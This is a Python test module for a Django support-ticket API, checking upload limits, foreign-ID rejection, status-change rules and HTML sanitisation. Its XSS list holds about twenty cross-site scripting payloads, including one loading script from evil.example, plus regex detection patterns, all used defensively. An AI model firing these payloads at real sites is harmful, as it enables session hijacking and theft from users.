"""Bad input to /api/v1/tickets: refused with an answer that says what is allowed, nothing kept
that should not be, and nothing a browser could run stored."""

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from thirdway.tickets.lifecycle import allowed_from
from thirdway.tickets.models import Article, Attachment, Ticket

from .conftest import API, get, patch, post


def fields_of(response) -> list[str]:
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["detail"] == "Invalid input."
    for error in body["errors"]:
        assert error["problem"] and error["allowed"], body
    return [error["field"] for error in body["errors"]]


def counts() -> tuple[int, int, int]:
    return Ticket.objects.count(), Article.objects.count(), Attachment.objects.count()


# --- files over the limit ----------------------------------------------------------------------


def stored_files(settings) -> list[str]:
    from pathlib import Path

    root = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    return sorted(str(path) for path in root.rglob("*") if path.is_file())


def test_a_file_over_the_limit_is_a_413_that_states_the_limit_and_nothing_is_stored(
    cast, desk, api_as, settings
):
    settings.ATTACHMENT_MAX_BYTES = 64
    files_before, before = stored_files(settings), counts()
    response = api_as(cast.partner).post(
        f"{API}/tickets/{desk.acme_bob.pk}/attachments",
        {
            "files": [
                SimpleUploadedFile("small.txt", b"fits"),
                SimpleUploadedFile("big.bin", b"x" * 65),
            ],
            "body_text": "Two files",
        },
    )
    assert response.status_code == 413
    body = response.json()
    assert body["limit_bytes"] == 64
    assert "at most 64 bytes" in body["detail"]
    assert body["errors"][0]["field"] == "attachments"
    assert "65 bytes" in body["errors"][0]["problem"]
    assert counts() == before
    assert stored_files(settings) == files_before


def test_a_file_at_the_limit_is_kept(cast, desk, api_as, settings):
    settings.ATTACHMENT_MAX_BYTES = 64
    response = api_as(cast.client_user).post(
        f"{API}/tickets/{desk.acme_bob.pk}/attachments",
        {"files": [SimpleUploadedFile("photo.txt", b"y" * 64)]},
    )
    assert response.status_code == 201, response.content
    [attachment] = response.json()["attachments"]
    assert (attachment["filename"], attachment["size"]) == ("photo.txt", 64)
    assert response.json()["kind"] == "reply"


def test_an_upload_without_files_says_files_are_required(cast, desk, api_as):
    response = api_as(cast.partner).post(
        f"{API}/tickets/{desk.acme_bob.pk}/attachments", {"body_text": "no file"}
    )
    assert [field.split(".")[-1] for field in fields_of(response)] == ["files"]


def test_an_uploaded_page_or_script_is_served_as_an_inert_download(cast, desk, api_as):
    client = api_as(cast.partner)
    response = client.post(
        f"{API}/tickets/{desk.acme_bob.pk}/attachments",
        {"files": [SimpleUploadedFile("page.html", b"<html><script>alert(1)</script></html>")]},
    )
    [attachment] = response.json()["attachments"]
    assert attachment["content_type"] == "application/octet-stream"
    download = client.get(attachment["url"])
    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"] == 'attachment; filename="page.html"'
    assert download["X-Content-Type-Options"] == "nosniff"


# --- ids that are unknown or of another client -------------------------------------------------


def new_ticket(cast, **extra):
    return {"client": cast.acme.pk, "subject": "Broken till", "body_text": "It beeps.", **extra}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("client", lambda cast: cast.globex.pk + 1000),
        ("requester", lambda cast: cast.globex_user_contact.pk),
        ("requester", lambda cast: 99999),
        ("site", lambda cast: cast.globex_site.pk),
        ("asset", lambda cast: cast.globex_laptop.pk),
        ("asset", lambda cast: 99999),
        ("practice", lambda cast: 99999),
        ("assignee", lambda cast: 99999),
    ],
)
def test_an_unknown_or_foreign_id_is_a_400_naming_the_field(cast, api_as, field, value):
    before = counts()
    response = post(api_as(cast.admin), "/tickets", new_ticket(cast, **{field: value(cast)}))
    assert fields_of(response) == [field]
    assert counts() == before


def test_a_contact_cannot_open_a_ticket_for_another_organisation_or_requester(cast, api_as):
    client = api_as(cast.client_user)
    before = counts()
    assert fields_of(post(client, "/tickets", new_ticket(cast, client=cast.globex.pk))) == [
        "client"
    ]
    # A client user sees only their own contact record and the assets they use.
    other = post(client, "/tickets", new_ticket(cast, requester=cast.acme_admin_contact.pk))
    assert fields_of(other) == ["requester"]
    server = post(client, "/tickets", new_ticket(cast, asset=cast.acme_server.pk))
    assert fields_of(server) == ["asset"]
    assert counts() == before
    mine = post(client, "/tickets", new_ticket(cast, asset=cast.acme_laptop.pk))
    assert mine.status_code == 201
    assert (mine.json()["requester_id"], mine.json()["asset_id"]) == (
        cast.acme_user_contact.pk,
        cast.acme_laptop.pk,
    )


def test_a_contact_may_not_set_the_assignee_or_override_the_priority(cast, api_as):
    client = api_as(cast.client_admin)
    for extra in ({"assignee": cast.partner_record.pk}, {"priority": 1, "priority_reason": "!"}):
        response = post(client, "/tickets", new_ticket(cast, **extra))
        assert response.status_code == 403
    assert not Ticket.objects.exists()


def test_foreign_ids_on_an_existing_ticket_are_400s_naming_the_field(cast, desk, api_as):
    client = api_as(cast.admin)
    ticket = desk.acme_bob
    for field, value in (
        ("site", cast.globex_site.pk),
        ("asset", cast.globex_laptop.pk),
        ("requester", cast.globex_admin_contact.pk),
        ("practice", 99999),
    ):
        assert fields_of(patch(client, f"/tickets/{ticket.pk}", {field: value})) == [field]
    assert fields_of(post(client, f"/tickets/{ticket.pk}/merge", {"into": 99999})) == ["into"]
    other_client = post(client, f"/tickets/{ticket.pk}/merge", {"into": desk.globex_hank.pk})
    assert fields_of(other_client) == ["into"]
    itself = post(client, f"/tickets/{ticket.pk}/merge", {"into": ticket.pk})
    assert fields_of(itself) == ["into"]
    assert fields_of(post(client, f"/tickets/{ticket.pk}/assign", {"partner": 99999})) == [
        "partner"
    ]
    assert fields_of(post(client, f"/tickets/{ticket.pk}/links", {"target": 99999})) == ["target"]
    foreign_article = Article.objects.filter(ticket=desk.globex_hank).first().pk
    split = post(client, f"/tickets/{ticket.pk}/split", {"articles": [foreign_article]})
    assert fields_of(split) == ["articles"]
    bulk = post(client, "/tickets/bulk", {"tickets": [ticket.pk], "assignee": 99999})
    assert fields_of(bulk) == ["assignee"]
    assert Ticket.objects.get(pk=ticket.pk).status == "new"
    assert Ticket.objects.count() == 4


def test_null_for_a_field_that_cannot_be_empty_is_refused(cast, desk, api_as):
    client = api_as(cast.partner)
    response = patch(client, f"/tickets/{desk.acme_bob.pk}", {"subject": None, "tags": None})
    assert sorted(fields_of(response)) == ["subject", "tags"]
    assert Ticket.objects.get(pk=desk.acme_bob.pk).subject == "Oven sensor offline"


def test_wrong_types_and_unknown_fields_are_400s_that_say_what_is_allowed(cast, api_as):
    client = api_as(cast.partner)
    response = post(client, "/tickets", new_ticket(cast, impact=7, colour="red", urgency="x"))
    assert sorted(fields_of(response)) == ["colour", "impact", "urgency"]
    listing = get(client, "/tickets", status="lost")
    assert listing.status_code == 400
    assert "new" in listing.json()["errors"][0]["allowed"]


# --- status changes ------------------------------------------------------------------------------


@pytest.mark.parametrize("wanted", ["merged", "bogus", "new"])
def test_a_refused_status_change_is_a_409_listing_the_allowed_statuses(cast, desk, api_as, wanted):
    response = post(api_as(cast.partner), f"/tickets/{desk.acme_bob.pk}/status", {"status": wanted})
    assert response.status_code == 409
    body = response.json()
    assert body["allowed"] == allowed_from("new")
    assert body["status"] == "new"
    assert wanted in body["detail"]
    assert Ticket.objects.get(pk=desk.acme_bob.pk).status == "new"


def test_a_merged_ticket_allows_no_status_at_all(cast, desk, api_as):
    client = api_as(cast.admin)
    post(client, f"/tickets/{desk.acme_bob.pk}/merge", {"into": desk.acme_alice.pk})
    response = post(client, f"/tickets/{desk.acme_bob.pk}/status", {"status": "in_progress"})
    assert response.status_code == 409
    assert response.json()["allowed"] == []


# --- nothing a browser could run ------------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '"><img src=x onerror=alert(1)>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;svg onload=alert(1)&#62;",
]
# In a one-line text: none of it.  In HTML: no such element, and inside the tags that are left
# no handler, no script or data URL, no style.  (Escaped text such as ``&lt;svg onload=`` is
# shown as the characters it is and runs nothing.)
IN_TEXT = re.compile(r"<script|<svg|\bon\w+\s*=|javascript:", re.IGNORECASE)
ELEMENTS = re.compile(r"<\s*/?\s*(script|svg|iframe|style|form|math|object|embed)\b", re.IGNORECASE)
IN_TAG = re.compile(r"\bon\w+\s*=|javascript:|data:|expression\(|\bstyle\s*=", re.IGNORECASE)


def assert_harmless_text(text: str) -> None:
    assert not IN_TEXT.search(text), text


def assert_harmless_html(markup: str) -> None:
    assert not ELEMENTS.search(markup), markup
    for tag in re.findall(r"<[^>]*>", markup):
        assert not IN_TAG.search(tag), markup


@pytest.mark.parametrize("payload", XSS)
def test_script_in_a_subject_or_message_is_stored_harmless(cast, desk, api_as, payload):
    client = api_as(cast.partner)
    created = post(
        client,
        "/tickets",
        {"client": cast.acme.pk, "subject": f"Hello {payload}", "body_html": f"<p>Hi</p>{payload}"},
    )
    assert created.status_code == 201, created.content
    ticket = Ticket.objects.get(pk=created.json()["id"])
    replied = post(client, f"/tickets/{ticket.pk}/reply", {"body_html": "<p>ok</p>" + payload})
    noted = post(client, f"/tickets/{ticket.pk}/note", {"body_html": "<b>n</b>" + payload})
    renamed = patch(client, f"/tickets/{ticket.pk}", {"subject": f"Renamed {payload}"})
    uploaded = client.post(
        f"{API}/tickets/{ticket.pk}/attachments",
        {"files": [SimpleUploadedFile("a.txt", b"a")], "body_html": payload},
    )
    for response in (replied, noted, renamed, uploaded):
        assert response.status_code in (200, 201), response.content
    ticket.refresh_from_db()
    assert_harmless_text(ticket.subject)
    assert ticket.subject.startswith("Renamed")
    for article in Article.objects.filter(ticket=ticket):
        assert_harmless_html(article.body_html)
        if "&" not in payload:  # markup hidden in entities stays visible, escaped, text
            assert_harmless_text(article.body_html)
    # And what the API answers is what was stored.
    for item in get(client, f"/tickets/{ticket.pk}/articles").json()["items"]:
        assert_harmless_html(item["body_html"])
